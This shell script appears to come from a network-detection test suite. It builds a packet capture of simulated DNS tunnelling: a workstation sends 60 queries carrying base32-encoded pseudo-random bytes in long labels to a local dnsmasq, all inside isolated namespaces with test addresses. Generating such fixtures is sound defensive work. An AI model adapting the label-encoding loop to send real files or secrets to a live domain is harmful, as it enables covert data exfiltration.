#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# attack-dns-tunnel: data leaving in DNS queries: a host sends 60 queries whose names carry
# base32-encoded data in long labels under one domain, as iodine or dnscat2 do, to the site's
# resolver, a real dnsmasq, after a few ordinary queries. Seen from the switch's mirror port.
#
#   WS21 10.77.46.10 (ns iaso-cap-dtun-ws-PID)  <-- switch -->
#   RESOLVER 10.77.46.2:53 (ns ...-dns-PID), dnsmasq: hospital.test from host records
#     (--local: names it does not know there are NXDOMAIN) and the tunnel domain cdn-sync.test
#     answered by --address=/cdn-sync.test/10.77.46.99 (every A question under it gets that
#     address, as a tunnel's own name server answers everything; other types get an empty
#     NOERROR answer). Nothing is forwarded: dnsmasq has no upstream server.
#
# Captured (full snaplen), all with kdig (knot-dnsutils) over UDP, one query per invocation:
#   5 ordinary queries: pacs.hospital.test A, ris.hospital.test A, hospital.test MX,
#     pacs.hospital.test AAAA, missing.hospital.test A (NXDOMAIN)
#   60 tunnel queries, types A, TXT and NULL in turn (20 each): QNAME
#     <seq>.<l1>.<l2>.<l3>.t.cdn-sync.test, seq a 4-digit counter (0000-0059), l1 l2 l3 the
#     base32 (RFC 4648, lowercase, no padding) of 110 bytes of pseudo-random "data" (SHA-256
#     chain from a fixed seed, so the same names on every regeneration), cut 63 + 63 + 50
#     characters. QNAMEs are 199 characters long.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/pair.sh"
. "$(dirname "$0")/lan.sh"
cap_need_root
out=$(cap_outdir attack-dns-tunnel)
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"; cap_cleanup' EXIT

cap_lan dtun 46
dns=iaso-cap-dtun-dns-$$
ws=iaso-cap-dtun-ws-$$
sip=10.77.46.2
cap_lan_host "$dns" 02 "$sip/24"
cap_lan_host "$ws" 10 10.77.46.10/24
cap_lan_static
cap_lan_span

cap_bg "$dns" dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts --pid-file= \
    --user=root --bind-interfaces --listen-address="$sip" --except-interface=lo \
    --local=/hospital.test/ \
    --host-record=pacs.hospital.test,10.77.46.20,fd77:46::20 \
    --host-record=ris.hospital.test,10.77.46.21 \
    --host-record=mail.hospital.test,10.77.46.25 \
    --mx-host=hospital.test,mail.hospital.test,10 \
    --local=/cdn-sync.test/ --address=/cdn-sync.test/10.77.46.99 --log-facility=/dev/null
cap_wait_port "$dns" 53 udp

$PY - >"$tmp/queries" <<'PY'
import base64, hashlib
h = b"iaso-test-dns-tunnel-seed"
types = ["A", "TXT", "NULL"]
for seq in range(60):
    data = b""
    while len(data) < 110:
        h = hashlib.sha256(h).digest()
        data += h
    b32 = base64.b32encode(data[:110]).decode().rstrip("=").lower()
    labels = [b32[:63], b32[63:126], b32[126:]]
    print("%04d.%s.t.cdn-sync.test %s" % (seq, ".".join(labels), types[seq % 3]))
PY

cap_start "$CAP_LAN_SENSOR" "$out/input.pcap" -i eth0 -s 0 -B 16384 port 53

q="cap_in $ws kdig +timeout=2 +retry=0 @$sip"
for nt in "pacs.hospital.test A" "ris.hospital.test A" "hospital.test MX" \
    "pacs.hospital.test AAAA" "missing.hospital.test A"; do
    # shellcheck disable=SC2086 # name and type
    $q $nt >/dev/null
done
while read -r name type; do
    $q "$name" "$type" >>"$tmp/answers"
done <"$tmp/queries"

cap_stop
n=$(grep -c "status: NOERROR" "$tmp/answers" || true)
if [ "$n" -ne 60 ]; then
    echo "$0: $n of the 60 tunnel queries were answered NOERROR" >&2
    exit 1
fi
# HOW: how it was made and tshark's reference counts (how.py).
$PY "$(dirname "$0")/how.py" "$0" "$out" tcp,dns dnsmasq-base knot-dnsutils
echo "$0: wrote $out/input.pcap and $out/HOW" >&2
